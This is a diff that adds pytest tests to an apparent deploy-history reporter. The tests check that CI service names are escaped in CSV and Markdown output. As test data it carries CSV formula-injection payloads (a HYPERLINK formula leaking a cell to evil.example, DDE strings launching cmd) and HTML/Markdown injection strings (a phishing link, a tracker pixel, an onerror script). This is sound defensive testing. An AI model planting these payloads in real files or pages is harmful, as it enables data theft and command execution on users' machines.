@@ -104,3 +104,71 @@ def test_names_from_ci_never_reach_the_terminal_with_escapes(
     out = run(path, fmt, capsys)
     assert "\x1b" not in out and "\x07" not in out and "\\u001b" not in out
     assert "shop" in out
+
+
+def hostile_history(tmp_path: Path, service: str) -> Path:
+    """A history whose one production deploy names ``service``, as CI or a deploy tool spelt it."""
+    path = tmp_path / "history.sqlite"
+    with History.open(path, clock=FakeClock(NOW)) as history:
+        history._db.execute(
+            "INSERT INTO deploys (source, service, environment, deploy_key, commit_sha, state, at)"
+            " VALUES ('gh', ?, 'production', '1', 'abc', 'succeeded', ?)",
+            (service, NOW.timestamp() - 3600),
+        )
+    return path
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"shop")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+]
+
+
+@pytest.mark.parametrize("service", FORMULAS)
+def test_a_name_from_ci_is_never_a_formula_in_the_csv_sheet(
+    service: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The CSV is "for a sheet": a spreadsheet runs a cell that starts with = + - @ (or a tab or
+    a return before one) as a formula. Such a text cell is written with a leading apostrophe,
+    which the sheet shows as text (OWASP's advice for CSV injection)."""
+    out = run(hostile_history(tmp_path, service), "csv", capsys)
+    rows = list(csv.DictReader(io.StringIO(out)))
+    scopes = [r["scope"] for r in rows if r["scope"] not in ("estate",)]
+    assert scopes, out
+    for row in rows:
+        for name, value in row.items():
+            start = value.lstrip(" ")[:1]
+            assert not start or start not in "=+-@\t\r" or _number(value), (name, value)
+    assert any(s.startswith("'") and s[1:].lstrip().startswith(service.strip()[:1]) for s in scopes)
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize(
+    "service",
+    [
+        "[shop](http://evil.example/login)",
+        "![pixel](http://tracker.example/p.gif)",
+        "<img src=x onerror=alert(1)>",
+        "`code` *shouting* _lean_ <b>bold</b> &amp;",
+    ],
+)
+def test_a_name_from_ci_is_never_markdown_or_html_on_the_wiki_page(
+    service: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Every character Markdown or HTML could read is escaped: the page shows the name as
+    written, never a link, an image, a tag or emphasis."""
+    out = run(hostile_history(tmp_path, service), "markdown", capsys)
+    line = next(line for line in out.splitlines() if "production" in line)
+    for mark in "[]()<>!`*_&":
+        # every one of them escaped with a backslash, wherever it stands in the name
+        assert all(line[i - 1] == "\\" for i, c in enumerate(line) if c == mark), (mark, line)
